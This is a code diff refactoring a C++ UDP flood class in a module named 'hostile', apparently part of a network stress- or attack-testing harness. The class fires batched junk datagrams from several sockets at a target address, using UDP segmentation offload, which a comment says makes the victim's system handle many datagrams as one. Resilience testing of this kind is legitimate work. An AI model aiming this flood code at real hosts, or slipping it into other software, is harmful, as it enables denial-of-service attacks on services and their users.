@@ -21,8 +21,6 @@ using namespace std::chrono_literals;
 namespace kitsune2::hostile {
 namespace {
 
-using Datagram = std::vector<std::uint8_t>;
-
 constexpr std::size_t kTogether = 64;    ///< sent in one call
 constexpr std::size_t kDifferent = 512;  ///< sent again and again
 
@@ -84,24 +82,17 @@ Datagram make(Junk junk, std::mt19937_64& random) {
 
 class UdpFlood final : public Attack {
  public:
-  UdpFlood(std::vector<Junk> junks, Plan plan) : junks_(std::move(junks)), plan_(std::move(plan)) {}
+  UdpFlood(const Plan& plan, std::string place, std::vector<FloodPart> parts)
+      : plan_(plan), place_(std::move(place)), parts_(std::move(parts)) {}
   ~UdpFlood() override {
     over_ = true;
     if (thread_.joinable()) thread_.join();
   }
   void start() override {
-    const std::string place = plan_.place();
-    const std::size_t colon = place.rfind(':');
+    const std::size_t colon = place_.rfind(':');
     to_.sin_family = AF_INET;
-    to_.sin_addr.s_addr = ::inet_addr(place.substr(0, colon).c_str());
-    to_.sin_port = htons(static_cast<std::uint16_t>(std::stoul(place.substr(colon + 1))));
-    std::mt19937_64 random(1);
-    for (const Junk junk : junks_) {
-      // Large ones are few, so that they fit into the cache of the processor as the others do.
-      const std::size_t count = junk == Junk::large ? 8 : kDifferent;
-      auto& these = content_.emplace_back();
-      for (std::size_t i = 0; i < count; ++i) these.push_back(make(junk, random));
-    }
+    to_.sin_addr.s_addr = ::inet_addr(place_.substr(0, colon).c_str());
+    to_.sin_port = htons(static_cast<std::uint16_t>(std::stoul(place_.substr(colon + 1))));
     for (std::size_t i = 0; i < plan_.peers; ++i) sockets_.push_back(open(i));
     thread_ = std::thread([this] { run(); });
   }
@@ -130,9 +121,9 @@ class UdpFlood final : public Attack {
     std::array<iovec, kTogether> parts{};
     alignas(cmsghdr) std::array<std::uint8_t, CMSG_SPACE(sizeof(std::uint16_t))> control{};
     for (std::size_t turn = 0; !over_; ++turn) {
-      const std::size_t kind = turn % junks_.size();
-      const auto& these = content_[kind];
-      const std::size_t first = turn / junks_.size() * kTogether;
+      const FloodPart& kind = parts_[turn % parts_.size()];
+      const auto& these = kind.datagrams;
+      const std::size_t first = turn / parts_.size() * kTogether;
       Tally done;
       for (std::size_t i = 0; i < kTogether; ++i) {
         const Datagram& one = these[(first + i) % these.size()];
@@ -144,7 +135,7 @@ class UdpFlood final : public Attack {
         message.msg_namelen = sizeof to_;
         message.msg_iov = &parts[i];
         message.msg_iovlen = 1;
-        if (junks_[kind] == Junk::segments) {
+        if (kind.segment_bytes > 0) {
           // Many datagrams that the victim's system hands over as one.
           message.msg_control = control.data();
           message.msg_controllen = control.size();
@@ -152,7 +143,7 @@ class UdpFlood final : public Attack {
           header->cmsg_level = SOL_UDP;
           header->cmsg_type = UDP_SEGMENT;
           header->cmsg_len = CMSG_LEN(sizeof(std::uint16_t));
-          const std::uint16_t size = 37;
+          const auto size = static_cast<std::uint16_t>(kind.segment_bytes);
           std::copy_n(reinterpret_cast<const std::uint8_t*>(&size), sizeof size, CMSG_DATA(header));
         }
       }
@@ -173,10 +164,10 @@ class UdpFlood final : public Attack {
     for (const int fd : sockets_) ::close(fd);
   }
 
-  const std::vector<Junk> junks_;
   const Plan plan_;
+  const std::string place_;
+  const std::vector<FloodPart> parts_;
   sockaddr_in to_{};
-  std::vector<std::vector<Datagram>> content_;  ///< of each of `junks_`
   std::vector<int> sockets_;
   std::thread thread_;
   std::atomic<bool> over_ = false;
@@ -186,13 +177,22 @@ class UdpFlood final : public Attack {
 
 }  // namespace
 
-std::unique_ptr<Attack> make_udp_flood(Plan plan) {
-  std::vector<Junk> junks;
+std::unique_ptr<Attack> make_datagram_flood(const Plan& plan, std::string place, std::vector<FloodPart> parts) {
+  return std::make_unique<UdpFlood>(plan, std::move(place), std::move(parts));
+}
+
+std::unique_ptr<Attack> make_udp_flood(const Plan& plan) {
+  std::mt19937_64 random(1);
+  std::vector<FloodPart> parts;
   for (const Named& one : kKinds) {
-    if (plan.kind == one.kind || plan.kind == kMixed) junks.push_back(one.junk);
+    if (plan.kind != one.kind && plan.kind != kMixed) continue;
+    FloodPart& part = parts.emplace_back();
+    if (one.junk == Junk::segments) part.segment_bytes = 37;
+    // Large ones are few, so that they fit into the cache of the processor as the others do.
+    const std::size_t count = one.junk == Junk::large ? 8 : kDifferent;
+    for (std::size_t i = 0; i < count; ++i) part.datagrams.push_back(make(one.junk, random));
   }
-  if (junks.empty()) return nullptr;
-  return std::make_unique<UdpFlood>(std::move(junks), std::move(plan));
+  return parts.empty() ? nullptr : make_datagram_flood(plan, plan.place(), std::move(parts));
 }
 
 }  // namespace kitsune2::hostile
